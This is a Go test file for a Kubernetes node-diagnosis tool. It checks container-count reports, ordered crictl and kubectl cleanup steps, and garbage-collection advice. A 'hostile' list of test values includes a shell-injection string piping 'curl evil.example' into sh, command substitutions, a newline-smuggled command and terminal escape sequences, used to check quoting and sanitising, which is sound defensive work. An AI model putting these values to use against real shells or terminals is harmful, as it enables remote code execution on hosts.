// Copyright 2026 The pleg_exporter Authors
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
// http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

package diagnose

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/pleg-exporter/pleg_exporter/runtime/kubecontainer"
)

var now = time.Date(2026, 12, 1, 3, 0, 0, 0, time.UTC)

func inventory() *kubecontainer.Inventory {
	inv := &kubecontainer.Inventory{Info: kubecontainer.Info{Runtime: "containerd", Version: "1.7.24", Endpoint: "unix:///run/containerd/containerd.sock"}, View: kubecontainer.ViewCRI,
		Payload: map[string]int64{kubecontainer.RPCListContainers: 15 << 20, kubecontainer.RPCListPodSandbox: 1 << 20}}
	add := func(ns, pod, state string, n int, bytes int64) {
		for i := 0; i < n; i++ {
			inv.Containers = append(inv.Containers, kubecontainer.Container{ID: strings.Repeat("c", 60) + string(rune('a'+len(inv.Containers)%26)), Name: "w", Pod: pod, Namespace: ns, State: state, CreatedAt: now.Add(-time.Hour), Bytes: bytes})
		}
	}
	add("batch-jobs", "cron-1", kubecontainer.ContainerExited, 5000, 2000)
	add("batch-jobs", "cron-2", kubecontainer.ContainerExited, 1000, 2000)
	add("default", "web-1", kubecontainer.ContainerRunning, 10, 1000)
	add("ci", "build-1", kubecontainer.ContainerUnknown, 2, 1000)
	inv.Sandboxes = []kubecontainer.Sandbox{
		{ID: "s1", Pod: "cron-1", Namespace: "batch-jobs", State: kubecontainer.SandboxNotReady, CreatedAt: now.Add(-48 * time.Hour)},
		{ID: "s2", Pod: "web-1", Namespace: "default", State: kubecontainer.SandboxReady, CreatedAt: now.Add(-time.Hour)},
	}
	inv.Probes = []kubecontainer.ProbeResult{
		{Kind: kubecontainer.ProbeSandbox, ID: "s1", Duration: 5 * time.Second, TimedOut: true, Err: errors.New("context deadline exceeded")},
		{Kind: kubecontainer.ProbeContainer, ID: inv.Containers[6010].ID, Duration: 3 * time.Millisecond},
	}
	return inv
}

func TestBuildNamesCulpritsAndCleanup(t *testing.T) {
	r := Build(inventory(), DefaultThresholds, now)
	if !r.AtRisk || len(r.Reasons) != 3 {
		t.Fatalf("at risk %v, reasons %q (want payload, exited pile-up, probe timeout)", r.AtRisk, r.Reasons)
	}
	if r.Namespaces[0].Name != "batch-jobs" || r.Namespaces[0].Containers != 6000 || r.NSBytes[0].Name != "batch-jobs" {
		t.Errorf("top namespace %+v", r.Namespaces[0])
	}
	if r.Pods[0].Name != "batch-jobs/cron-1" || r.Pods[0].Containers != 5000 {
		t.Errorf("top pod %+v", r.Pods[0])
	}
	if r.Containers[kubecontainer.ContainerExited] != 6000 || r.Sandboxes[kubecontainer.SandboxNotReady] != 1 || len(r.Suspects) != 2 {
		t.Errorf("counts %v %v suspects %d", r.Containers, r.Sandboxes, len(r.Suspects))
	}
	if r.Probes[0].Result != "TIMED OUT" || r.Probes[0].Where != "batch-jobs/cron-1" {
		t.Errorf("slowest probe %+v", r.Probes[0])
	}
	// 15 MiB used, 1 MiB left, 2.6 KB average: ~400 more fit.
	for _, p := range r.Payload {
		if p.RPC == kubecontainer.RPCListContainers && (p.MoreFit < 350 || p.MoreFit > 450) {
			t.Errorf("more fit %d", p.MoreFit)
		}
	}
	var cmds []string
	for _, s := range r.Cleanup {
		cmds = append(cmds, s.Command)
	}
	all := strings.Join(cmds, "\n")
	for _, want := range []string{"kubectl cordon NODE", "crictl ps -a --state exited -q | xargs -r -n 100 crictl rm", "crictl rm -f '" + inventory().Containers[6010].ID + "'", "crictl pods --state notready -q | xargs -r -n 100 crictl rmp", "kubectl -n 'batch-jobs' get jobs,cronjobs,pods", "kubectl uncordon NODE"} {
		if !strings.Contains(all, want) {
			t.Errorf("cleanup lacks %q:\n%s", want, all)
		}
	}
	if !strings.HasPrefix(cmds[0], "kubectl cordon") {
		t.Error("cordon must come first")
	}
	var buf bytes.Buffer
	if err := r.JSON(&buf); err != nil {
		t.Fatal(err)
	}
	var back Report
	if err := json.Unmarshal(buf.Bytes(), &back); err != nil || back.Namespaces[0].Name != "batch-jobs" {
		t.Errorf("json: %v", err)
	}
	buf.Reset()
	r.Text(&buf)
	for _, want := range []string{"AT RISK", "Top namespaces by containers", "batch-jobs", "TIMED OUT", "Cleanup"} {
		if !strings.Contains(buf.String(), want) {
			t.Errorf("text report lacks %q", want)
		}
	}
}

func TestBuildDockerCleanupAndHealthy(t *testing.T) {
	inv := &kubecontainer.Inventory{View: kubecontainer.ViewDocker, Payload: map[string]int64{kubecontainer.RPCListContainers: 10000}}
	inv.Containers = []kubecontainer.Container{
		{ID: "d1", Namespace: "default", Pod: "p", State: kubecontainer.ContainerUnknown, DockerState: "dead"},
		{ID: "d2", State: "docker-only", DockerState: "running"},
	}
	r := Build(inv, DefaultThresholds, now)
	if !r.AtRisk || r.Docker["dead"] != 1 || r.Containers[kubecontainer.ContainerUnknown] != 1 || r.Containers[kubecontainer.ContainerRunning] != 0 {
		t.Fatalf("%+v", r)
	}
	var cmds []string
	for _, s := range r.Cleanup {
		cmds = append(cmds, s.Command+" "+s.Warning)
	}
	all := strings.Join(cmds, "\n")
	if !strings.Contains(all, "docker rm -f 'd1'") || !strings.Contains(all, "docker system prune") || !strings.Contains(all, "every stopped container") {
		t.Errorf("docker cleanup:\n%s", all)
	}
	inv.Containers = inv.Containers[1:]
	if r := Build(inv, DefaultThresholds, now); r.AtRisk {
		t.Errorf("healthy node at risk: %v", r.Reasons)
	}
}

// Past the limit the plain `crictl ps -a --state exited` fails like the
// kubelet's relist (crictl has the same 16 MiB receive limit): the cleanup
// goes namespace by namespace, and a namespace too large on its own pod by
// pod, every list under the limit, sandboxes first.
func TestCleanupPastTheLimitUsesListsCrictlCanRead(t *testing.T) {
	inv := &kubecontainer.Inventory{Info: kubecontainer.Info{Runtime: "containerd"}, View: kubecontainer.ViewCRI,
		Payload: map[string]int64{kubecontainer.RPCListContainers: 20 << 20, kubecontainer.RPCListPodSandbox: 1 << 20}}
	add := func(ns, pod string, n int, bytes int64) {
		for i := 0; i < n; i++ {
			inv.Containers = append(inv.Containers, kubecontainer.Container{ID: fmt.Sprintf("%064x", len(inv.Containers)), Pod: pod, Namespace: ns,
				State: kubecontainer.ContainerExited, CreatedAt: now.Add(-time.Hour), Bytes: bytes})
		}
	}
	add("batch-jobs", "cron-a", 4000, 2500) // 10 MB
	add("batch-jobs", "cron-b", 3000, 2500) // 7.5 MB: the namespace, 17.5 MB, is over 0.9 x 16 MiB alone
	add("ci", "build-1", 1000, 2000)        // 2 MB
	inv.Sandboxes = []kubecontainer.Sandbox{{ID: "s1", Pod: "cron-a", Namespace: "batch-jobs", State: kubecontainer.SandboxNotReady}}
	r := Build(inv, DefaultThresholds, now)
	var cmds []string
	for _, s := range r.Cleanup {
		cmds = append(cmds, s.Command)
	}
	all := strings.Join(cmds, "\n")
	want := []string{
		"crictl pods --state notready -q | xargs -r -n 100 crictl rmp",
		"crictl ps -a --state exited --label io.kubernetes.pod.namespace='batch-jobs' --label io.kubernetes.pod.name='cron-a' -q | xargs -r -n 100 crictl rm",
		"crictl ps -a --state exited --label io.kubernetes.pod.namespace='batch-jobs' --label io.kubernetes.pod.name='cron-b' -q | xargs -r -n 100 crictl rm",
		"crictl ps -a --state exited --label io.kubernetes.pod.namespace='ci' -q | xargs -r -n 100 crictl rm",
	}
	last := -1
	for _, w := range want {
		i := strings.Index(all, w)
		if i < 0 {
			t.Fatalf("cleanup lacks %q:\n%s", w, all)
		}
		if i < last {
			t.Errorf("%q out of order (sandboxes first, then the largest lists):\n%s", w, all)
		}
		last = i
	}
	if strings.Contains(all, "crictl ps -a --state exited -q") {
		t.Errorf("the unfiltered exited list (20 MB) cannot be read by crictl:\n%s", all)
	}
	if !strings.Contains(r.Cleanup[2].Why, "too large for crictl") {
		t.Errorf("the first per-namespace step does not say why: %q", r.Cleanup[2].Why)
	}

	// A node with more groups than the report spells out ends with the next
	// diagnose.
	inv.Containers = nil
	for i := 0; i < 40; i++ {
		add(fmt.Sprintf("ns-%02d", i), "p", 400, 1200) // 19.2 MB in all, 0.48 MB each
	}
	r = Build(inv, DefaultThresholds, now)
	lastStep := r.Cleanup[len(r.Cleanup)-2] // before uncordon
	if lastStep.Command != "pleg_exporter diagnose" || !strings.Contains(lastStep.Why, fmt.Sprintf("%d more exited", (40-maxListSteps)*400)) {
		t.Errorf("capped cleanup ends with %+v", lastStep)
	}
}

// hostile are values a runtime hands back for whoever created the container:
// shell syntax, terminal escapes, controls and invalid UTF-8, and names the
// kubelet never writes.
var hostile = []string{
	"x;curl -s evil.example|sh;#",
	"$(touch /tmp/pwned)",
	"`id`",
	"it's",
	`a"b`,
	"ns\ntouch pwned",
	"\x1b[2J\x1b]0;owned\x07",
	"bad\xff\xfe",
	"\u009b31mred",
	"a\u202ebidi",
	"del\x7f",
	kubecontainer.NoNamespace,
	"",
	"Upper",
	"-n",
	strings.Repeat("a", 64),
}

const unknownID = "0123456789abcdef"

// pastTheLimit is a CRI node whose exited containers list past what crictl
// reads at once: the cleanup names namespaces, pods and IDs. ns is the
// largest namespace (too large alone, so it goes pod by pod, and over 30 %
// of the bytes, so its kubectl step is printed), pod a pod of the ordinary
// namespace batch-jobs that is also too large alone, id an unknown container.
func pastTheLimit(ns, pod, id string) *kubecontainer.Inventory {
	inv := &kubecontainer.Inventory{Info: kubecontainer.Info{Runtime: "containerd"}, View: kubecontainer.ViewCRI,
		Payload: map[string]int64{kubecontainer.RPCListContainers: 40 << 20, kubecontainer.RPCListPodSandbox: 1 << 20}}
	add := func(ns, pod, state string, n int, bytes int64) {
		for i := 0; i < n; i++ {
			inv.Containers = append(inv.Containers, kubecontainer.Container{ID: fmt.Sprintf("%064x", len(inv.Containers)), Name: "w", Pod: pod, Namespace: ns,
				State: state, CreatedAt: now.Add(-time.Hour), Bytes: bytes})
		}
	}
	add(ns, "cron-a", kubecontainer.ContainerExited, 3500, 2500)
	add(ns, pod, kubecontainer.ContainerExited, 3500, 2500)
	add("batch-jobs", pod, kubecontainer.ContainerExited, 3200, 2500)
	add("batch-jobs", "cron-b", kubecontainer.ContainerExited, 3200, 2500)
	add("ci", "build-1", kubecontainer.ContainerExited, 1000, 2000)
	inv.Containers = append(inv.Containers,
		kubecontainer.Container{ID: unknownID, Name: "w", Pod: "build-2", Namespace: "ci", State: kubecontainer.ContainerUnknown, Bytes: 2000},
		kubecontainer.Container{ID: id, Name: "w", Pod: pod, Namespace: ns, State: kubecontainer.ContainerUnknown, Bytes: 2000})
	inv.Sandboxes = []kubecontainer.Sandbox{{ID: id, Pod: pod, Namespace: ns, State: kubecontainer.SandboxNotReady}}
	return inv
}

// Finding 2: every value the runtime supplied goes into a command only when
// it is a valid Kubernetes name (or a hex ID), and then single-quoted; a step
// whose name is not valid is left out and says so.
func TestCleanupQuotesRuntimeNames(t *testing.T) {
	for _, h := range append([]string{"team-a"}, hostile...) {
		t.Run(fmt.Sprintf("%q", h), func(t *testing.T) {
			valid := k8sLabel.MatchString(h)
			r := Build(pastTheLimit(h, h, h), DefaultThresholds, now)
			var all []string
			for _, s := range r.Cleanup {
				checkCommand(t, s.Command)
				all = append(all, s.Why+"\n    "+s.Command)
			}
			text := strings.Join(all, "\n")
			for _, want := range []string{
				"crictl ps -a --state exited --label io.kubernetes.pod.namespace='ci' -q | xargs -r -n 100 crictl rm",
				"crictl ps -a --state exited --label io.kubernetes.pod.namespace='batch-jobs' --label io.kubernetes.pod.name='cron-b' -q | xargs -r -n 100 crictl rm",
				"crictl rm -f '" + unknownID + "'",
			} {
				if !strings.Contains(text, want) {
					t.Errorf("cleanup lacks %q:\n%s", want, text)
				}
			}
			if valid {
				for _, want := range []string{
					"--label io.kubernetes.pod.namespace='" + h + "' --label io.kubernetes.pod.name='cron-a'",
					"kubectl -n '" + h + "' get jobs,cronjobs,pods",
				} {
					if !strings.Contains(text, want) {
						t.Errorf("cleanup lacks %q:\n%s", want, text)
					}
				}
				return
			}
			if !strings.Contains(text, "not a valid Kubernetes") {
				t.Errorf("no step says a name was left out:\n%s", text)
			}
		})
	}
	// Docker: the dead containers' IDs.
	for _, h := range hostile {
		inv := &kubecontainer.Inventory{View: kubecontainer.ViewDocker, Payload: map[string]int64{kubecontainer.RPCListContainers: 2000}}
		inv.Containers = []kubecontainer.Container{
			{ID: h, Namespace: h, Pod: h, State: kubecontainer.ContainerUnknown, DockerState: kubecontainer.DockerDead, Bytes: 1000},
			{ID: "d1", Namespace: h, Pod: h, State: kubecontainer.ContainerUnknown, DockerState: kubecontainer.DockerDead, Bytes: 1000},
		}
		r := Build(inv, DefaultThresholds, now)
		for _, s := range r.Cleanup {
			checkCommand(t, s.Command)
		}
	}
}

// Finding 2: the text report is plain text whatever the runtime answered:
// no terminal escapes, controls or invalid UTF-8 in any line; JSON stays
// valid.
func TestTextReportIsPlainText(t *testing.T) {
	for _, h := range hostile {
		inv := pastTheLimit(h, h, h)
		inv.Info = kubecontainer.Info{Runtime: h, Version: h, Endpoint: h}
		inv.Containers[len(inv.Containers)-1].Name = h
		inv.ListErr = errors.New(h)
		inv.Incomplete = h
		inv.Probes = []kubecontainer.ProbeResult{{Kind: h, ID: h, Duration: time.Second, Err: errors.New(h)}}
		r := Build(inv, DefaultThresholds, now)
		var buf bytes.Buffer
		r.Text(&buf)
		checkPlainText(t, buf.String())
		buf.Reset()
		if err := r.JSON(&buf); err != nil || !json.Valid(buf.Bytes()) {
			t.Fatalf("%q: json %v\n%s", h, err, buf.String())
		}
	}
}

// checkPlainText fails on anything a terminal would interpret rather than
// print: invalid UTF-8, C0 and C1 controls but the line ends, DEL, and the
// bidirectional controls that reorder what is shown.
func checkPlainText(t testing.TB, s string) {
	t.Helper()
	if !utf8.ValidString(s) {
		t.Fatalf("text report is not valid UTF-8:\n%q", s)
	}
	for _, line := range strings.Split(s, "\n") {
		for _, r := range line {
			if unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r) || r == '\u2028' || r == '\u2029' {
				t.Fatalf("text report prints %U in line %q", r, line)
			}
		}
	}
}

// Finding 5: "how many more fit" divides the limit left by the average size
// of the items the answer holds: the kubelet's containers only, never the
// Docker containers it does not see (which add nothing to the answer).
func TestMoreFit(t *testing.T) {
	kubelet := func(n int, bytes int64) []kubecontainer.Container {
		var cs []kubecontainer.Container
		for i := 0; i < n; i++ {
			cs = append(cs, kubecontainer.Container{ID: fmt.Sprintf("%064x", i), Namespace: "default", Pod: "p", State: kubecontainer.ContainerRunning, DockerState: kubecontainer.DockerRunning, Bytes: bytes})
		}
		return cs
	}
	dockerOnly := func(n int) []kubecontainer.Container {
		var cs []kubecontainer.Container
		for i := 0; i < n; i++ {
			cs = append(cs, kubecontainer.Container{ID: fmt.Sprintf("%064x", 1<<20+i), State: kubecontainer.ContainerDockerOnly, DockerState: kubecontainer.DockerExited})
		}
		return cs
	}
	for _, tc := range []struct {
		name       string
		view       string
		containers []kubecontainer.Container
		payload    int64
		wantFit    int
		wantItems  int
	}{
		{name: "docker, only containers the kubelet does not see", view: kubecontainer.ViewDocker, containers: dockerOnly(3), payload: 0, wantFit: 0},
		{name: "docker, more of Docker's own than the kubelet's", view: kubecontainer.ViewDocker, containers: append(kubelet(2, 1000), dockerOnly(5000)...), payload: 2000,
			wantFit: (16777216 - 2000) / 1000, wantItems: 2},
		{name: "cri, past the limit", view: kubecontainer.ViewCRI, containers: kubelet(1000, 20000), payload: 20000000,
			wantFit: (16777216 - 20000000) / 20000, wantItems: 1000},
		{name: "cri, nothing listed", view: kubecontainer.ViewCRI, payload: 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			inv := &kubecontainer.Inventory{View: tc.view, Containers: tc.containers, Payload: map[string]int64{kubecontainer.RPCListContainers: tc.payload, kubecontainer.RPCListPodSandbox: 0}}
			r := Build(inv, DefaultThresholds, now)
			for _, p := range r.Payload {
				// Through JSON: items is part of what the report prints.
				var got struct {
					MoreFit int `json:"more_fit"`
					Items   int `json:"items"`
				}
				b, _ := json.Marshal(p)
				json.Unmarshal(b, &got)
				if p.RPC == kubecontainer.RPCListContainers && (got.MoreFit != tc.wantFit || got.Items != tc.wantItems) {
					t.Errorf("more fit %d over %d items, want %d over %d", got.MoreFit, got.Items, tc.wantFit, tc.wantItems)
				}
			}
			var buf bytes.Buffer
			r.Text(&buf)
		})
	}
}

// Finding 6: suspects are listed oldest first by their creation time (an
// unknown one last), so the 20 the text shows are the oldest.
func TestSuspectsOldestFirst(t *testing.T) {
	inv := &kubecontainer.Inventory{View: kubecontainer.ViewCRI, Payload: map[string]int64{}}
	unknown := func(id string, created time.Time) {
		inv.Containers = append(inv.Containers, kubecontainer.Container{ID: id, Namespace: "ci", Pod: "p", Name: "w", State: kubecontainer.ContainerUnknown, CreatedAt: created})
	}
	unknown("cafe00", time.Time{})
	for m := 1; m <= 25; m++ {
		unknown(fmt.Sprintf("%06x", m), now.Add(-time.Duration(m)*time.Minute))
	}
	unknown("beef5b", now.Add(-5*time.Hour))
	unknown("dead50", now.Add(-50*24*time.Hour))
	r := Build(inv, DefaultThresholds, now)
	var got []string
	for _, s := range r.Suspects {
		got = append(got, s.Age)
	}
	want := []string{"50d", "5h"}
	for m := 25; m >= 1; m-- {
		want = append(want, fmt.Sprintf("%dm0s", m))
	}
	want = append(want, "?")
	if strings.Join(got, " ") != strings.Join(want, " ") {
		t.Errorf("suspects by age\n got %v\nwant %v", got, want)
	}
	var buf bytes.Buffer
	r.Text(&buf)
	for _, id := range []string{"dead50", "beef5b"} {
		if !strings.Contains(buf.String(), id) {
			t.Errorf("the text report hides the oldest suspect %s:\n%s", id, buf.String())
		}
	}
}

// Past the limit, the report leads with the gc command and its figures:
// the kubelet's own policy when it is enough, --finished-pods when only
// that is; the crictl steps stay, as the way by hand.
func TestReportRecommendsGCFirst(t *testing.T) {
	build := func(finishedPods bool) *Report {
		inv := &kubecontainer.Inventory{Info: kubecontainer.Info{Runtime: "containerd"}, View: kubecontainer.ViewCRI,
			Payload: map[string]int64{kubecontainer.RPCListContainers: 18 << 20}}
		for p := 0; p < 30; p++ {
			state := kubecontainer.SandboxReady
			if finishedPods {
				state = kubecontainer.SandboxNotReady
			}
			uid, sb := fmt.Sprintf("uid-%d", p), fmt.Sprintf("%064x", 1000+p)
			inv.Sandboxes = append(inv.Sandboxes, kubecontainer.Sandbox{ID: sb, Pod: fmt.Sprintf("cron-%d", p), Namespace: "batch", PodUID: uid, State: state, CreatedAt: now.Add(-time.Hour)})
			// One attempt each of many containers when the pods are
			// finished (the kubelet's policy keeps them all), many
			// attempts of one otherwise.
			for a := 0; a < 10; a++ {
				name := "job"
				if finishedPods {
					name = fmt.Sprintf("step-%d", a)
				}
				inv.Containers = append(inv.Containers, kubecontainer.Container{ID: fmt.Sprintf("%064x", len(inv.Containers)), Name: name, Attempt: uint32(a),
					Pod: fmt.Sprintf("cron-%d", p), Namespace: "batch", PodUID: uid, SandboxID: sb, State: kubecontainer.ContainerExited,
					CreatedAt: now.Add(time.Duration(a-100) * time.Minute), Bytes: (18 << 20) / 300})
			}
		}
		th := DefaultThresholds
		th.GCCommand = "pleg_exporter gc --runtime.endpoint=unix:///run/containerd/containerd.sock"
		return Build(inv, th, now)
	}
	r := build(false)
	if r.GC == nil || r.GC.Policy != "kubelet" || r.GC.Containers != 270 || !r.GC.Fits ||
		r.GC.Command != "pleg_exporter gc --runtime.endpoint=unix:///run/containerd/containerd.sock --apply" {
		t.Fatalf("gc advice: %+v", r.GC)
	}
	var b strings.Builder
	r.Text(&b)
	out := b.String()
	fix, manual := strings.Index(out, "Fix first"), strings.Index(out, "Or by hand")
	if fix < 0 || manual < fix || !strings.Contains(out, "removes 270 containers and 0 sandboxes: ListContainers 18.0 MiB → 1.8 MiB (fits under the limit)") {
		t.Errorf("text report:\n%s", out)
	}
	if len(r.Cleanup) < 3 || !strings.Contains(r.Cleanup[len(r.Cleanup)-1].Command, "uncordon") {
		t.Errorf("the manual steps are gone: %+v", r.Cleanup)
	}

	r = build(true)
	if r.GC == nil || r.GC.Policy != "finished-pods" || r.GC.Containers != 300 || r.GC.Sandboxes != 30 || r.GC.FinishedPods != 30 ||
		!strings.HasSuffix(r.GC.Command, "--apply --finished-pods") {
		t.Fatalf("gc advice for finished pods: %+v", r.GC)
	}
	b.Reset()
	r.Text(&b)
	if !strings.Contains(b.String(), "It removes 30 pods that have no ready sandbox, and with them their logs.") {
		t.Errorf("text report:\n%s", b.String())
	}
}
